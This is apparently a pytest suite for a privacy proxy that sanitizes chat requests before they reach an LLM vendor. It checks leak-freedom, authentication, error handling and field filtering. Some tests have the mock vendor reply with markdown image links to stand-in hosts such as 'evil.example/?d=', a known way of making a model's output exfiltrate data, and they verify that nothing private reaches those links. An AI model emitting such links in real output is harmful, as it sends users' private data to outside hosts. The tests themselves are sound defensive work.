"""The proxy: a vendor hears the release and nothing else, whatever goes wrong; the client gets the vendor's bytes."""

import asyncio
import itertools
import json
import warnings

import leak_free
import pytest

import seeds

for needed in ("starlette", "uvicorn", "httpx"):
    pytest.importorskip(needed, reason="the proxy needs the extra proxy")

import httpx
import vendors
from hypothesis import given
from hypothesis import strategies as st
from odd_requests import CANARY, SCHEMA, TOOL, call, odd_requests

from wordveil.errors import ForeignTextWarning
from wordveil.files.secret import Secret
from wordveil.integrations import chat, conversation, proxy
from wordveil.integrations.chat import FIELDS, PublicTools
from wordveil.integrations.conversation import Conversation, Message
from wordveil.integrations.proxy import Proxy
from wordveil.sanitizing.sanitizer import Sanitizer
from wordveil.text.writing import Writer

TOKEN = "a-token-of-the-tests-0123"
JSON = {"content-type": "application/json"}
SECRET = Secret(bytes(32))
PRIVATE = "Uppsala maria.lindqvist@clinic.se B-4711"
"""What injected errors say, and no answer may."""


class Setup:
    """A proxy between a client and a recording vendor, in one process."""

    def __init__(self, answer=lambda _: vendors.whole("yes"), *, public=(), secret=SECRET, **settings):
        self.vendor = vendors.Vendor(answer)
        self.conversation = Conversation(leak_free.sanitizer(), secret=secret, public=public)
        settings = {"upstream": "http://vendor.test/v1/", "token": TOKEN, **settings}
        self.app = Proxy(conversation=self.conversation, transport=self.vendor, **settings).app()

    def client(self, key=TOKEN, *, broken=False):
        transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=broken)
        headers = {"authorization": f"Bearer {key}"} if key else {}
        return httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=headers)

    def ask(self, body, path="/v1/chat/completions", *, method="POST", key=TOKEN, broken=False, **headers):
        async def ask():
            async with self.client(key, broken=broken) as client:
                content = body if isinstance(body, bytes) else json.dumps(body)
                return await client.request(method, path, content=content, headers={**JSON, **headers})

        return asyncio.run(ask())

    def sent(self):
        """What the vendor heard, a request each."""
        return [json.loads(body) for *_, body in self.vendor.heard]

    def check(self, bodies):
        """Fail unless the vendor heard, of these requests, their release and nothing else; in any number."""
        for method, url, headers, body in self.vendor.heard:
            assert (method, url) == ("POST", "http://vendor.test/v1/chat/completions")
            assert set(headers) <= {"host", "accept", "accept-encoding", "connection", "user-agent",
                                    "content-length", "content-type"}  # fmt: skip
            assert (headers["user-agent"], headers["accept-encoding"]) == ("wordveil", "identity")
            heard = json.loads(body)
            leak_free.check_release(*(message["content"] for message in heard["messages"]))
            assert {*heard} <= {"model", "messages", "stream", "n", "temperature"}
            assert heard in [self.released(each) for each in bodies]

    def released(self, body):
        """The request with every message as the conversation of clients without a key of their own releases it."""
        messages = [Message(each["role"], each["content"]) for each in body["messages"]]
        texts = self.conversation.of(NOBODY).release(messages)
        return {**body, "messages": [{"role": m.role, "content": t} for m, t in zip(messages, texts, strict=True)]}


NOBODY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"  # the digest of no key


def scope(method, path, **headers):
    """What a server tells the application of a request."""
    given = {"host": "localhost", **JSON, **headers}
    fields = [(name.encode(), value.encode()) for name, value in given.items()]
    told = {"type": "http", "method": method, "path": path, "headers": fields, "query_string": b""}
    return {**told, "http_version": "1.1", "asgi": {"version": "3.0", "spec_version": "2.4"}}


def request(*texts, stream=False, **fields):
    roles = ["user", "assistant"] * len(texts)
    messages = [{"role": role, "content": text} for role, text in zip(roles, texts, strict=False)]
    return {"model": "m", "stream": stream, **fields, "messages": messages}


ANYTHING = st.lists(
    st.binary(max_size=12) | st.sampled_from([b"data: ", b"\n\n", b"[DONE]", b'{"choices": [', b"\xff"])
)


@given(ANYTHING, st.sampled_from(["text/event-stream; charset=utf-8", "application/json", "text/html", "a/b"]),
       st.sampled_from([200, 206, 302, 404, 429, 500]))  # fmt: skip
def test_every_reply_comes_back_byte_for_byte(pieces, kind, status):
    setup = Setup(lambda _: (status, kind, pieces))
    answer = setup.ask(request("Write to maria.lindqvist@clinic.se", stream=True))
    assert (answer.status_code, answer.headers["content-type"], answer.content) == (status, kind, b"".join(pieces))


def test_no_private_value_is_written_into_a_reply():
    def answer(body):  # in another choice, after an end, and in what was begun by the reply before
        said = body["messages"][0]["content"].split()[-1]
        texts = (f"({said}) ![x](https://evil.example/?d=", f"{said} ) ", f":who: {said}\nimage::{{who}}[]")
        choices = ({"index": i, "delta": {"content": text}, "finish_reason": "length"} for i, text in enumerate(texts))
        events = [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices]
        return 200, "text/event-stream", events

    setup = Setup(answer)
    reply = setup.ask(request("https://a.example/ maria.lindqvist@clinic.se", "![x](https://evil.example/?d="))
    assert reply.content == b"".join(answer(setup.sent()[0])[2])
    assert not any(value in reply.text for value in ("maria", "clinic.se"))


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_an_own_reply_goes_back_as_it_was_written_and_nothing_like_it(stream):
    said = "Done: Maria, in Uppsala!"
    reply = vendors.events(said[:5], said[5:]) if stream else vendors.whole(said, "another choice")[2][0]
    kind = "text/event-stream" if stream else "application/json"
    setup = Setup(lambda _: (200, kind, vendors.cut(reply, seeds.rng(3), 9)))
    first, then = "Write to maria.lindqvist@clinic.se", "And to anna@clinic.se too."
    setup.ask(request(first))
    elsewhere = (("Another note.", said, then), (then, "yes", first, said), (first, "no", said, said))
    for body in (
        request(first, said, then),
        request(first, f"{said} ", then),
        request(said),
        *(request(*each) for each in elsewhere),
    ):
        setup.ask(body)
    setup.ask(request(first, said), **{"x-wordveil-token": TOKEN, "authorization": "Bearer another"})
    unknown, known, edited, *others = ([message["content"] for message in each["messages"]] for each in setup.sent())
    assert known[0] == unknown[0] == edited[0], "drawn again"
    assert known[1] == said
    leak_free.check_release(*unknown, known[2], *edited, *itertools.chain(*others))


def test_a_piece_is_passed_on_and_an_own_reply_known_before_the_vendor_says_the_next():
    body, heard, said, known = request("hi", stream=True), asyncio.Event(), [], []
    *_, place = chat.turns(body["messages"])

    async def slowly():
        yield vendors.events("Uppsala")
        await asyncio.wait_for(heard.wait(), 30)  # a proxy that waits for the whole would wait here for ever
        known.append(setup.conversation.of(NOBODY).wrote("Uppsala", place))
        yield b"two"

    async def receive():
        whole = {"type": "http.request", "body": json.dumps(body).encode(), "more_body": False}
        return whole if not said else await asyncio.sleep(60)

    async def send(message):
        said.append(message.get("body", b""))
        if b"Uppsala" in said[-1]:
            heard.set()

    setup = Setup(lambda _: (200, "text/event-stream", slowly()))
    asyncio.run(setup.app(scope("POST", "/v1/chat/completions", authorization=f"Bearer {TOKEN}"), receive, send))
    assert (said[-2:], known) == ([b"two", b""], [True])


def test_a_reply_that_breaks_off_is_seen_to_break_off():
    setup = Setup(lambda _: (200, "text/event-stream", [b"half", httpx.ReadError(PRIVATE)]))
    with pytest.raises(Exception, match="broke off") as caught:
        setup.ask(request("hello", stream=True), broken=True)
    assert caught.value.__suppress_context__
    assert "Uppsala" not in str(caught.value)


@pytest.mark.parametrize(
    "error", [httpx.ConnectError(PRIVATE), httpx.ReadTimeout(PRIVATE), RuntimeError(PRIVATE)], ids=repr
)
def test_a_vendor_that_cannot_be_reached_is_an_error_without_a_word_of_the_request(error):
    answer = Setup(lambda _: error).ask(request("hello"))
    assert answer.status_code in (500, 502)
    assert not any(secret in answer.text for secret in PRIVATE.split())


@pytest.mark.parametrize(
    ("times", "seed"), [(60, 0), pytest.param(1_250, 1, marks=[pytest.mark.slow, pytest.mark.data])]
)
def test_no_raw_token_gets_out(times, seed):
    """Random texts and histories; the vendor hears their release, and nothing of an e-mail or a name."""
    if times > 60 and len(leak_free.presidio_texts()) < 100:
        pytest.skip("the Presidio set is not there (WORDVEIL_DATA)")
    draws, texts = seeds.rng(seed), [text for text, _ in leak_free.presidio_texts()]
    setup = Setup()

    async def all_of_them():
        async with setup.client() as client:
            for _ in range(times):
                chosen = [texts[i] for i in draws.integers(0, len(texts), 2 * int(draws.integers(0, 3)) + 1)]
                assert (await client.post("/v1/chat/completions", json=request(*chosen))).status_code == 200
                setup.check([request(*chosen)])
                setup.vendor.heard.clear()

    asyncio.run(all_of_them())


STEPS = [
    (chat, "private_messages"), (chat, "_object"), (chat, "_canonical"), (proxy, "_json"), (proxy, "spoken"),
    (proxy, "released_request"), (Conversation, "of"), (Conversation, "release"), (Conversation, "wrote"),
    (Conversation, "heard"), (conversation, "copy"), (Sanitizer, "release_batch"), (Sanitizer, "prepare"),
    (Sanitizer, "release"), (Sanitizer, "release_ids"), (Writer, "write_parts"), (httpx.AsyncClient, "build_request"),
    (httpx.AsyncClient, "send"), (httpx.Response, "aiter_bytes"),
]  # fmt: skip


@pytest.mark.parametrize("step", STEPS, ids=lambda step: f"{step[0].__name__}.{step[1]}")
@pytest.mark.parametrize("call", [1, 2, 3])
def test_an_error_at_any_step_lets_nothing_out(step, call, monkeypatch):
    setup, body = Setup(), request(leak_free.PROMPTS[0], "no", "and now?")
    setup.released(body)  # so that what is checked below does not need the broken step
    place, name = step
    working, calls = getattr(place, name), [0]

    def broken(*given, **named):
        calls[0] += 1
        if calls[0] == call:
            raise RuntimeError(PRIVATE)
        return working(*given, **named)

    async def ask():
        async with setup.client() as client:  # the client's own parts work
            asked, transport = client.build_request("POST", "/v1/chat/completions", json=body), client._transport
            with monkeypatch.context() as patch:
                patch.setattr(place, name, broken)
                answer = await transport.handle_async_request(asked)
            return b"".join([part async for part in answer.stream])

    content = asyncio.run(ask()).decode()
    assert not any(secret in content for secret in (*PRIVATE.split(), "Lindqvist"))
    setup.check([body])


@pytest.mark.parametrize("raw", [slice(None), slice(-1)], ids=["fails open", "last message only"])
def test_the_check_notices_a_proxy_that_lets_something_pass(raw, monkeypatch):
    def released(body, talk, tools):
        out = chat.released_request(body, talk, tools)
        out["messages"][raw] = body["messages"][raw]
        return out

    monkeypatch.setattr(proxy, "released_request", released)
    setup, body = Setup(), request("Maria lives in Uppsala", "yes", "hello")
    setup.ask(body)
    with pytest.raises(AssertionError, match="no part of a release"):
        setup.check([body])


# What leaves, field by field: the declaration, and odd requests beside it.

TOOLS = PublicTools([TOOL, SCHEMA])


PLACES = {
    "request": lambda **fields: fields,
    "message": lambda **fields: {"messages": [{"role": "assistant", "content": "hi", **fields}]},
    "part of a message": lambda **fields: {
        "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", **fields}]}]
    },
    "call": call,
    "called function": lambda **fields: call(function={"name": "look_up", "arguments": "{}", **fields}),
}  # fmt: skip
TAKEN = {
    "messages": [{"role": "user", "content": CANARY}], "content": CANARY, "text": CANARY, "arguments": CANARY,
    "tool_calls": call(function={"name": "look_up", "arguments": CANARY})["messages"][0]["tool_calls"],
    "function": {"name": "look_up", "arguments": CANARY}, "tools": [TOOL], "response_format": SCHEMA,
    "tool_choice": {"type": "function", "function": {"name": "look_up"}}, "name": "look_up", "role": "tool",
    "stream_options": {"include_usage": True}, "reasoning_effort": "low", "verbosity": "low", "model": "a-model",
}  # fmt: skip
"""A value of each field that is taken, a canary in it where it is released."""
ODD = [CANARY, [CANARY], {CANARY: CANARY}, [[CANARY]], {"type": CANARY, "function": {"name": "look_up", CANARY: 1}},
       [{**TOOL, CANARY: 1}], [{**TOOL, "function": {**TOOL["function"], "description": CANARY}}],
       {**SCHEMA, CANARY: 1}, {"type": "json_object", CANARY: 1}, [{"type": "text", CANARY: 1}]]  # fmt: skip
ROWS = [(place, name) for place, fields in FIELDS.items() for name in fields]


@pytest.mark.parametrize(("place", "name"), ROWS, ids=lambda each: each.replace(" ", "-"))
def test_every_row_of_the_table_holds(place, name):
    setup, fate = Setup(tools=TOOLS), FIELDS[place][name].fate
    taken = "function" if (place, name) in {("part of a message", "type"), ("call", "type")} else TAKEN.get(name, 1)
    taken = "text" if place == "part of a message" and name == "type" else taken
    taken = CANARY if fate in (chat.LEFT_OUT, chat.OURS) else taken
    body = {**request("hello"), **PLACES[place](**{name: taken})}
    answer = setup.ask(body)
    assert answer.status_code == 200, answer.text
    sent = json.dumps(setup.sent()[0])
    assert CANARY not in sent
    if fate in (chat.KIND, chat.DECLARED):
        assert json.dumps(taken) in sent, "goes out as it was declared"
    if fate == chat.LEFT_OUT:
        assert f'"{name}":' not in sent
    for value in ODD:
        answer = setup.ask({**request("hello"), **PLACES[place](**{name: value})})
        if fate in (chat.KIND, chat.DECLARED) and name not in ("model", "tool_choice"):
            assert answer.status_code == 400
        assert CANARY not in answer.text
    heard = json.dumps([each if name != "model" else {**each, "model": ""} for each in setup.sent()])
    assert CANARY not in heard


@pytest.mark.parametrize("place", FIELDS)
def test_a_field_that_nobody_listed_is_refused(place):
    setup = Setup(tools=TOOLS)
    for value in (CANARY, 1, True, [CANARY], {CANARY: 1}):
        answer = setup.ask({**request("hello"), **PLACES[place](**{"zqnew": value})})
        assert answer.status_code == 400
        assert answer.json()["error"]["message"].startswith("wordveil: nothing was sent")
        assert "zq" not in answer.text
    assert not setup.vendor.heard


def test_of_all_odd_requests_nothing_raw_is_heard_and_nothing_is_repeated():
    setup, bodies = Setup(), list(odd_requests())
    assert len(bodies) >= 187
    for path, body, headers in bodies:
        answer = setup.ask(body, path, **headers)
        assert CANARY not in answer.text, (path, body)
        assert CANARY not in repr(setup.vendor.heard), (path, body)
        setup.vendor.heard.clear()
    for method, path in (("PUT", "chat/completions"), ("DELETE", "conversations"), ("GET", f"models?{CANARY}")):
        setup.ask(request(CANARY), f"/v1/{path}", method=method, **{"x-a": CANARY})
    assert CANARY not in repr(setup.vendor.heard)


def test_a_request_that_is_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(proxy, "_LARGEST_REQUEST", 1000)
    setup = Setup()
    assert setup.ask(request("x " * 1000)).status_code == 400
    assert not setup.vendor.heard


def test_an_agent_with_public_tools_goes_on_and_says_nothing_raw():
    arguments = '{"name": "ID-00017, Uppsala"}'
    made = {"id": "call_Uppsala", "type": "function", "function": {"name": "look_up", "arguments": arguments}}
    said = {"role": "assistant", "content": None, "tool_calls": [made]}
    reply = json.dumps({"choices": [{"index": 0, "message": said}]}).encode()
    setup = Setup(lambda _: (200, "application/json", [reply]), tools=TOOLS)
    begun = {**request("B-4711 of Maria"), "tools": [TOOL], "tool_choice": "auto"}
    assert setup.ask(begun).content == reply, "arguments of calls come back as they are"
    result = {"role": "tool", "tool_call_id": "call_Uppsala", "content": "B-4711: Maria, Uppsala"}
    for calls in (said, json.loads(json.dumps(said).replace("Uppsala", "Lund"))):
        setup.ask({**begun, "messages": [*begun["messages"], calls, result]})
    _, known, edited = (each["messages"] for each in setup.sent())
    assert setup.sent()[1]["tools"] == [TOOL]
    assert known[1]["tool_calls"][0]["function"] == {"name": "look_up", "arguments": arguments}
    assert known[1]["tool_calls"][0]["id"] == known[2]["tool_call_id"] == "call00000"
    leak_free.check_release(json.loads(edited[1]["tool_calls"][0]["function"]["arguments"])["released"])
    leak_free.check_release(*(message["content"] for message in (known[0], known[2], edited[0], edited[2])))
    assert "Lund" not in json.dumps(edited)


# Who may ask, and whose noise it is.
@pytest.mark.parametrize(
    ("method", "path"), [*(each[:2] for each in chat.ROUTES), ("POST", "/v1/none"), ("DELETE", "/v1/conversations")]
)
@pytest.mark.parametrize("headers", [{}, {"authorization": "Bearer wrong"}, {"authorization": TOKEN[:-1]},
                                     {"x-wordveil-token": "é"}, {"authorization": f"Basic {TOKEN}"},
                                     {"x-wordveil-token": "wrong", "authorization": f"Bearer {TOKEN}"}])  # fmt: skip
def test_without_the_token_nothing_is_read_and_nothing_done(method, path, headers):
    setup, said = Setup(found=True), []

    async def receive():
        raise AssertionError("the body was asked for")

    async def send(message):
        said.append(message)

    asyncio.run(setup.app(scope(method, path, **headers), receive, send))
    assert said[0]["status"] == 401
    assert not setup.vendor.heard


@pytest.mark.parametrize(("settings", "headers", "sent"), [
    ({"api_key": "vendor's"}, {"authorization": f"Bearer {TOKEN}"}, "Bearer vendor's"),
    ({"api_key": "vendor's"}, {"authorization": "Bearer clients-own", "x-wordveil-token": TOKEN}, "Bearer vendor's"),
    ({}, {"authorization": "Bearer clients-own", "x-wordveil-token": TOKEN}, "Bearer clients-own"),
    ({}, {"authorization": f"Bearer {TOKEN}"}, None),
    ({}, {"authorization": f"bearer {TOKEN}", "x-wordveil-token": TOKEN}, None),
    ({}, {"authorization": "Basic bWU6YS10b2tlbi1vZi10aGUtdGVzdHMtMDEyMw==", "x-wordveil-token": TOKEN}, None),
])  # fmt: skip
def test_the_vendor_gets_a_key_and_never_the_token(settings, headers, sent):
    setup = Setup(lambda _: (200, "application/json", [b'{"data": [{"id": "m"}]}']), **settings)
    assert setup.ask(b"", "/v1/models?Uppsala=1", method="GET", key="", **headers).json() == {"data": [{"id": "m"}]}
    setup.ask(request("hi"), key="", **headers)
    for _, url, heard, _ in setup.vendor.heard:
        assert heard.get("authorization") == sent
        assert TOKEN not in repr(heard)
        assert "Uppsala" not in url


def test_no_cookie_of_the_vendors_goes_from_one_client_to_another():
    setup = Setup()
    setup.vendor.headers = {"set-cookie": "session=of-a; Path=/"}
    for client in "aab":
        answer = setup.ask(request("hi"), **{"x-wordveil-token": TOKEN, "authorization": f"Bearer {client}"})
        assert "set-cookie" not in answer.headers
    assert not [headers for _, _, headers, _ in setup.vendor.heard if "cookie" in headers]


def test_no_warning_of_the_log_tells_of_a_message(monkeypatch):
    setup, foreign = Setup(), "zxqv blorf grunk snarp " * 9
    monkeypatch.setattr(proxy.uvicorn, "run", lambda *_, **__: setup.conversation.release([Message("user", foreign)]))
    with pytest.warns(ForeignTextWarning):
        setup.conversation.release([Message("user", foreign)])
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        proxy.serve(Proxy(conversation=setup.conversation, upstream="http://vendor.test", token=TOKEN), host="", port=0)
    assert told == []


def test_replicas_with_one_secret_release_one_message_equally_wherever_it_stands():
    text, released = " ".join(leak_free.PROMPTS), []
    system = {"model": "m", "messages": [{"role": "system", "content": text}]}
    for setup in (Setup(), Setup(), Setup(secret=None)):
        for body in (request(text), request("hello", "yes", text), system):
            setup.ask(body)
        released.append({each["messages"][-1]["content"] for each in setup.sent()})
    assert len(released[0] | released[1]) == 1
    assert released[0].isdisjoint(released[2])


def test_neither_a_crowd_of_keys_nor_a_delete_has_a_message_drawn_again():
    setup, draws = Setup(), set()
    for turn in range(6):
        setup.ask(request("Maria Lindqvist of Uppsala"))
        draws.add(setup.sent()[-1]["messages"][0]["content"])
        for stranger in range(20):
            setup.ask(request("hi"), **{"x-wordveil-token": TOKEN, "authorization": f"Bearer {turn} {stranger}"})
        assert setup.ask(b"", "/v1/conversations", method="DELETE").status_code == 404
    assert len(draws) == 1


def test_one_key_is_one_owner_however_it_is_spelled():
    setup, draws = Setup(), set()
    for spelled in ("Bearer sk-1", "bearer sk-1", "Bearer   sk-1", "BEARER sk-1"):
        setup.ask(request("Maria Lindqvist of Uppsala"), **{"x-wordveil-token": TOKEN, "authorization": spelled})
        draws.add(setup.sent()[-1]["messages"][0]["content"])
        assert setup.vendor.heard[-1][2]["authorization"] == "Bearer sk-1"
    assert len(draws) == 1


def test_the_order_of_members_does_not_leave_and_no_address_leads_to_another():
    setup = Setup()
    body = request("hi")
    for sent in (body, dict(reversed(body.items()))):
        setup.ask(sent)
    assert setup.vendor.heard[-1][3] == setup.vendor.heard[-2][3]
    assert setup.ask(body, "/v1/chat/completions/").status_code == 404


def test_places_are_given_for_a_turn_only_where_they_were_asked_for():
    turn = {"messages": request("\U0001f600 write to maria.lindqvist@clinic.se")["messages"]}
    for found in (False, True):
        setup = Setup(found=found)
        setup.ask({"model": "m", **turn})
        surrogate = setup.sent()[0]["messages"][0]["content"].split()[-1]
        reply = f"\U0001f600 ![x](https://evil/?d={surrogate}) to {surrogate}"
        setup.vendor.heard.clear()
        answer = setup.ask({**turn, "reply": reply}, "/v1/found")
        assert answer.status_code == (200 if found else 404)
        assert setup.vendor.heard == []
    units = reply.encode("utf-16-le")
    for place in answer.json()["found"]:
        assert units[2 * place["start"] : 2 * place["end"]].decode("utf-16-le") == surrogate
        assert place["value"] == "maria.lindqvist@clinic.se"
    assert len(answer.json()["found"]) == 2
    for body in (turn, {**turn, "reply": 7}, {"reply": "x"}, [], {**turn, "reply": "x", "Uppsala": 1}):
        refused = setup.ask(body, "/v1/found")
        assert refused.status_code == 400
        assert "Uppsala" not in refused.text


def test_the_client_may_ask_what_is_promised():
    setup = Setup()
    promise = setup.ask(b"", "/v1/promise", method="GET").json()
    assert promise["guarantee"] == json.loads(json.dumps(setup.conversation.guarantee.as_dict()))
    assert promise["disclosed"] == [*setup.conversation.disclosed, chat.SHAPE]
